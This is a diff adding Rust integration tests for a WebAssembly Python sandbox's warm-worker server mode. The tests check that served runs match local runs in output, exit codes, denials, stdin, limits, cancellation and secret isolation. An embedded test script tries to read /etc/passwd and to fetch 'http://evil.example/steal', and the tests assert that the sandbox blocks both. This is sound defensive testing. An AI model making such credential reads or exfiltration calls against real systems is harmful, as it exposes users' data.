@@ -1,0 +1,480 @@
+//! `sbx-wasm python serve` and `sbx-wasm run script.py` handing its run to
+//! a warm worker: real server, worker and client processes, the real
+//! runner. Each served run is checked against the same run in the client's
+//! own process (`--no-server`): same output, exit code, denials, files.
+
+use super::python::warm_cache;
+use sbx_wasm_tests::{
+    LoopbackServer, mount_caps, mount_tree, python_runner, repo_root, sbx_bin, snapshot,
+};
+use serde_json::Value;
+use std::io::{BufRead, BufReader, Write};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Output, Stdio};
+use std::time::{Duration, Instant};
+
+fn text(b: &[u8]) -> String {
+    String::from_utf8_lossy(b).into_owned()
+}
+
+/// A server of its own for one test: the runner hard-linked under a path
+/// of the test's (a server is keyed by the runner's path, so tests running
+/// at once do not meet each other's), artifacts from the shared cache.
+struct Served {
+    /// Holds the runner's link; removed with the server.
+    _dir: tempfile::TempDir,
+    runner: PathBuf,
+    server: Child,
+    socket: PathBuf,
+}
+
+impl Served {
+    fn start(env: &[(&str, &str)]) -> Served {
+        let dir = tempfile::tempdir_in(repo_root().join("target")).unwrap();
+        let runner = dir.path().join("runner.wasm");
+        std::fs::hard_link(python_runner(), &runner).unwrap();
+        let (server, socket) = start_server(&runner, env);
+        Served {
+            _dir: dir,
+            runner,
+            server,
+            socket,
+        }
+    }
+
+    /// `sbx-wasm run --summary --caps caps.toml --report report.json
+    /// --python-runner RUNNER SCRIPT` in `tree`, with `extra` flags.
+    fn run(&self, tree: &Path, script: &str, extra: &[&str], env: &[(&str, &str)]) -> Ran {
+        let mut cmd = self.cmd(tree, script, extra, env);
+        let out = cmd.stdin(Stdio::null()).output().unwrap();
+        Ran::read(tree, out)
+    }
+
+    fn cmd(&self, tree: &Path, script: &str, extra: &[&str], env: &[(&str, &str)]) -> Command {
+        let _ = std::fs::remove_file(tree.join("report.json"));
+        let mut cmd = Command::new(sbx_bin());
+        cmd.current_dir(tree)
+            .env("SBX_WASM_CACHE_DIR", warm_cache())
+            .envs(env.iter().copied())
+            .args([
+                "run",
+                "--summary",
+                "--caps",
+                "caps.toml",
+                "--report",
+                "report.json",
+            ])
+            .arg("--python-runner")
+            .arg(&self.runner)
+            .args(extra)
+            .arg(script);
+        cmd
+    }
+
+    /// The worker processes of this server (idle or running).
+    fn workers(&self) -> Vec<u32> {
+        children(self.server.id())
+            .into_iter()
+            .filter(|pid| cmdline(*pid).contains("__python-worker"))
+            .collect()
+    }
+}
+
+impl Drop for Served {
+    fn drop(&mut self) {
+        let _ = Command::new("kill")
+            .arg(self.server.id().to_string())
+            .status();
+        let _ = self.server.wait();
+    }
+}
+
+/// Start `sbx-wasm python serve` for `runner`; it prints its socket's path
+/// once its first worker is ready.
+fn start_server(runner: &Path, env: &[(&str, &str)]) -> (Child, PathBuf) {
+    let mut server = Command::new(sbx_bin())
+        .env("SBX_WASM_CACHE_DIR", warm_cache())
+        .envs(env.iter().copied())
+        .args(["python", "serve", "--python-runner"])
+        .arg(runner)
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut line = String::new();
+    BufReader::new(server.stdout.take().unwrap())
+        .read_line(&mut line)
+        .unwrap();
+    if !line.trim().ends_with(".sock") {
+        let _ = server.kill();
+        let out = server.wait_with_output().unwrap();
+        panic!("the server did not start: {line:?} {}", text(&out.stderr));
+    }
+    (server, PathBuf::from(line.trim()))
+}
+
+struct Ran {
+    out: Output,
+    report: Value,
+}
+
+impl Ran {
+    fn read(tree: &Path, out: Output) -> Ran {
+        let report = std::fs::read_to_string(tree.join("report.json"))
+            .map(|t| serde_json::from_str(&t).unwrap())
+            .unwrap_or(Value::Null);
+        Ran { out, report }
+    }
+    fn code(&self) -> Option<i32> {
+        self.out.status.code()
+    }
+    fn stdout(&self) -> String {
+        text(&self.out.stdout)
+    }
+    fn stderr(&self) -> String {
+        text(&self.out.stderr)
+    }
+    fn served(&self) -> bool {
+        self.stderr().contains("; warm worker")
+    }
+    fn denials(&self) -> Vec<String> {
+        self.report["denials"]
+            .as_array()
+            .map(|a| {
+                a.iter()
+                    .map(|d| d["violation"].as_str().unwrap_or("").to_string())
+                    .collect()
+            })
+            .unwrap_or_default()
+    }
+}
+
+/// A tree with `data/` (read at `/work`), `out/` (written at `/work/out`)
+/// and a caps file with `extra` sections.
+fn tree(extra: &str) -> tempfile::TempDir {
+    mount_tree(&[
+        ("data/table.csv", "name,score\nada,3\nbob,5\n"),
+        ("caps.toml", &mount_caps(extra)),
+    ])
+}
+
+const AGENT: &str = r#"
+import os, sbx
+rows = open("/work/table.csv").read().splitlines()
+open("/work/out/count.txt", "w").write(str(len(rows) - 1))
+print("rows", len(rows) - 1)
+try:
+    open("/etc/passwd").read()
+    print("passwd READ")
+except OSError as e:
+    print("passwd refused:", type(e).__name__)
+try:
+    sbx.fetch("http://evil.example/steal")
+except sbx.Denied as e:
+    print("fetch refused:", e.violation)
+"#;
+
+#[test]
+fn a_served_run_does_what_the_same_run_does_in_its_own_process() {
+    let served = Served::start(&[]);
+    let t = tree("");
+    std::fs::write(t.path().join("agent.py"), AGENT).unwrap();
+    let data = snapshot(&t.path().join("data"));
+
+    let own = served.run(t.path(), "agent.py", &["--no-server"], &[]);
+    assert!(!own.served(), "{}", own.stderr());
+    std::fs::remove_file(t.path().join("out/count.txt")).unwrap();
+    let ran = served.run(t.path(), "agent.py", &[], &[]);
+    assert!(ran.served(), "not served: {}", ran.stderr());
+
+    assert_eq!(ran.code(), Some(0), "{}", ran.stderr());
+    assert_eq!(ran.code(), own.code());
+    assert_eq!(ran.stdout(), own.stdout());
+    assert!(
+        ran.stdout().contains("passwd refused: FileNotFoundError"),
+        "{}",
+        ran.stdout()
+    );
+    assert!(
+        ran.stdout().contains("fetch refused: egress_denied"),
+        "{}",
+        ran.stdout()
+    );
+    assert_eq!(
+        ran.denials(),
+        ["fs_read_denied", "egress_denied"],
+        "{}",
+        ran.report
+    );
+    assert_eq!(ran.denials(), own.denials());
+    // The allowed write happened, in the client's tree; the read mount and
+    // the rest of the host are as they were.
+    assert_eq!(
+        std::fs::read_to_string(t.path().join("out/count.txt")).unwrap(),
+        "2"
+    );
+    assert_eq!(snapshot(&t.path().join("data")), data);
+    assert!(ran.stderr().contains("kernel wall up"), "{}", ran.stderr());
+    // The report went where the client's relative path says.
+    assert_eq!(ran.report["status"], "completed", "{}", ran.report);
+}
+
+#[test]
+fn each_served_run_starts_from_nothing_of_the_last() {
+    let served = Served::start(&[]);
+    let t = tree("");
+    std::fs::write(
+        t.path().join("mark.py"),
+        "import os, builtins, sys\n\
+         open('/tmp/left.txt', 'w').write('x')\n\
+         os.environ['LEFT'] = '1'\n\
+         builtins.LEFT = 1\n\
+         sys.modules['left_module'] = sys\n\
+         print('marked')\n",
+    )
+    .unwrap();
+    std::fs::write(
+        t.path().join("look.py"),
+        "import os, builtins, sys\n\
+         print(os.path.exists('/tmp/left.txt'), os.environ.get('LEFT'), \
+         hasattr(builtins, 'LEFT'), 'left_module' in sys.modules)\n",
+    )
+    .unwrap();
+    let first = served.run(t.path(), "mark.py", &[], &[]);
+    assert_eq!(first.stdout(), "marked\n", "{}", first.stderr());
+    let second = served.run(t.path(), "look.py", &[], &[]);
+    assert!(first.served() && second.served(), "{}", second.stderr());
+    assert_eq!(
+        second.stdout(),
+        "False None False False\n",
+        "{}",
+        second.stderr()
+    );
+}
+
+#[test]
+fn stdin_exit_codes_and_hard_limits_pass_through_a_served_run() {
+    let served = Served::start(&[]);
+    let t = tree("[budget]\nmax_fuel = 200000000\n");
+    std::fs::write(
+        t.path().join("echo.py"),
+        "import sys\nprint(sys.stdin.read().upper(), end='')\n",
+    )
+    .unwrap();
+    std::fs::write(
+        t.path().join("fail.py"),
+        "import sys\nprint('bye')\nsys.exit(3)\n",
+    )
+    .unwrap();
+    std::fs::write(t.path().join("spin.py"), "while True:\n    pass\n").unwrap();
+
+    let mut child = served
+        .cmd(t.path(), "echo.py", &[], &[])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(b"from the pipe\n")
+        .unwrap();
+    let echoed = Ran::read(t.path(), child.wait_with_output().unwrap());
+    assert!(echoed.served(), "{}", echoed.stderr());
+    assert_eq!(echoed.stdout(), "FROM THE PIPE\n", "{}", echoed.stderr());
+
+    for (script, code) in [("fail.py", 1), ("spin.py", 124)] {
+        let own = served.run(t.path(), script, &["--no-server"], &[]);
+        let ran = served.run(t.path(), script, &[], &[]);
+        assert!(ran.served(), "{}", ran.stderr());
+        assert_eq!(ran.code(), Some(code), "{script}: {}", ran.stderr());
+        assert_eq!(ran.code(), own.code(), "{script}");
+        assert_eq!(ran.stdout(), own.stdout(), "{script}");
+        assert_eq!(ran.report["violation"], own.report["violation"], "{script}");
+    }
+}
+
+#[test]
+fn a_worker_whose_environment_differs_leaves_the_run_to_its_client() {
+    // The secret comes from the environment `run` is started in: a worker
+    // started with another value must not answer for it.
+    let api = LoopbackServer::start();
+    let origin = api.origin();
+    let caps = format!(
+        "[net]\nallow = [\"{origin}\"]\n\
+         [secrets.TOKEN]\nfrom_env = \"SBX_SERVE_TEST_TOKEN\"\nhosts = [\"{origin}\"]\n\
+         headers = [\"Authorization\"]\n"
+    );
+    let t = tree(&caps);
+    std::fs::write(
+        t.path().join("call.py"),
+        format!(
+            "import sbx\nr = sbx.fetch('{origin}/status', headers={{'Authorization': sbx.secret('TOKEN')}})\nprint(r.status)\n"
+        ),
+    )
+    .unwrap();
+    let served = Served::start(&[("SBX_SERVE_TEST_TOKEN", "value-of-the-server")]);
+
+    let same = served.run(
+        t.path(),
+        "call.py",
+        &[],
+        &[("SBX_SERVE_TEST_TOKEN", "value-of-the-server")],
+    );
+    assert!(same.served(), "{}", same.stderr());
+    assert_eq!(same.stdout(), "200\n", "{}", same.stderr());
+
+    let other = served.run(
+        t.path(),
+        "call.py",
+        &[],
+        &[("SBX_SERVE_TEST_TOKEN", "value-of-the-client")],
+    );
+    assert!(!other.served(), "{}", other.stderr());
+    assert_eq!(other.stdout(), "200\n", "{}", other.stderr());
+    let headers = api.headers();
+    let sent: Vec<&String> = headers
+        .iter()
+        .filter(|h| h.to_ascii_lowercase().starts_with("authorization:"))
+        .collect();
+    assert_eq!(sent.len(), 2, "{headers:?}");
+    assert!(sent[0].ends_with("value-of-the-server"), "{sent:?}");
+    assert!(sent[1].ends_with("value-of-the-client"), "{sent:?}");
+}
+
+#[test]
+fn ctrl_c_cancels_a_served_run_and_a_client_that_dies_takes_its_run_along() {
+    let served = Served::start(&[]);
+    let t = tree("[budget]\nmax_wall_ms = 120000\nmax_fuel = \"off\"\n");
+    // A wall-only grant runs on an engine without fuel: the worker (which
+    // has one with fuel) leaves it to the client; with fuel it is served.
+    let t_fuel = tree("[budget]\nmax_wall_ms = 120000\nmax_fuel = 1000000000000\n");
+    for dir in [t.path(), t_fuel.path()] {
+        std::fs::write(
+            dir.join("wait.py"),
+            "import time\nprint('started', flush=True)\nwhile True:\n    time.sleep(0.01)\n",
+        )
+        .unwrap();
+    }
+    for (dir, served_expected) in [(t.path(), false), (t_fuel.path(), true)] {
+        let mut child = served
+            .cmd(dir, "wait.py", &[], &[])
+            .stdin(Stdio::null())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap();
+        let mut out = BufReader::new(child.stdout.take().unwrap());
+        let mut line = String::new();
+        out.read_line(&mut line).unwrap();
+        assert_eq!(line, "started\n");
+        let _ = Command::new("kill")
+            .args(["-INT", &child.id().to_string()])
+            .status();
+        let ran = Ran::read(dir, child.wait_with_output().unwrap());
+        assert_eq!(ran.code(), Some(130), "{}", ran.stderr());
+        assert_eq!(ran.report["status"], "cancelled", "{}", ran.report);
+        assert_eq!(ran.served(), served_expected, "{}", ran.stderr());
+    }
+
+    // SIGKILL: the client cannot say anything; the server sees it gone and
+    // cancels the worker, which ends (the one kept ready stays).
+    let mut child = served
+        .cmd(t_fuel.path(), "wait.py", &[], &[])
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let mut line = String::new();
+    BufReader::new(child.stdout.take().unwrap())
+        .read_line(&mut line)
+        .unwrap();
+    assert_eq!(line, "started\n");
+    let running = served.workers();
+    assert_eq!(running.len(), 1, "one worker, running the script");
+    child.kill().unwrap();
+    child.wait().unwrap();
+    let deadline = Instant::now() + Duration::from_secs(30);
+    while served.workers().contains(&running[0]) && Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    assert!(
+        !served.workers().contains(&running[0]),
+        "the abandoned run's worker is still there"
+    );
+}
+
+#[test]
+fn one_server_a_runner_and_a_stale_socket_is_replaced() {
+    let served = Served::start(&[]);
+    let again = Command::new(sbx_bin())
+        .env("SBX_WASM_CACHE_DIR", warm_cache())
+        .args(["python", "serve", "--python-runner"])
+        .arg(&served.runner)
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    assert_eq!(again.status.code(), Some(2), "{}", text(&again.stderr));
+    assert!(
+        text(&again.stderr).contains("already serves"),
+        "{}",
+        text(&again.stderr)
+    );
+
+    // A server killed outright leaves its socket file; the next one takes
+    // its place, and runs are served again.
+    let runner = served.runner.clone();
+    let socket = served.socket.clone();
+    let mut served = served;
+    served.server.kill().unwrap();
+    served.server.wait().unwrap();
+    assert!(socket.exists());
+    let t = tree("");
+    std::fs::write(t.path().join("hi.py"), "print('hi')\n").unwrap();
+    let unserved = served.run(t.path(), "hi.py", &[], &[]);
+    assert_eq!(unserved.stdout(), "hi\n", "{}", unserved.stderr());
+    assert!(!unserved.served(), "{}", unserved.stderr());
+    let (server, socket2) = start_server(&runner, &[]);
+    served.server = server;
+    assert_eq!(socket2, socket);
+    let ran = served.run(t.path(), "hi.py", &[], &[]);
+    assert!(ran.served(), "{}", ran.stderr());
+    assert_eq!(ran.stdout(), "hi\n");
+}
+
+/// The pids whose parent is `pid`.
+fn children(pid: u32) -> Vec<u32> {
+    let mut out = Vec::new();
+    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
+        let Some(child) = entry
+            .file_name()
+            .to_str()
+            .and_then(|n| n.parse::<u32>().ok())
+        else {
+            continue;
+        };
+        let Ok(stat) = std::fs::read_to_string(format!("/proc/{child}/stat")) else {
+            continue;
+        };
+        let Some(rest) = stat.rfind(')').map(|i| &stat[i + 2..]) else {
+            continue;
+        };
+        // state, then ppid; a zombie has finished.
+        let mut fields = rest.split(' ');
+        let state = fields.next();
+        if state != Some("Z") && fields.next() == Some(pid.to_string().as_str()) {
+            out.push(child);
+        }
+    }
+    out
+}
+
+fn cmdline(pid: u32) -> String {
+    std::fs::read(format!("/proc/{pid}/cmdline"))
+        .map(|b| text(&b))
+        .unwrap_or_default()
+}
